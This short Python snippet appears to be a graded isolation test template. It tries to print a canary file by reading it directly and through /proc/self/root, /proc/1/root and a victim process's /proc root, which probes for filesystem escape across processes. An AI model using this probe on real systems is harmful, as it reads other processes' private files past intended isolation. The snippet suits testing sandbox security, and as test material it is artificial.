# status: graded then=right
for path in ("@CANARY@", "/proc/self/root@CANARY@", "/proc/1/root@CANARY@", "/proc/@VICTIM@/root@CANARY@"):
    try:
        print(open(path).read())
    except OSError:
        pass
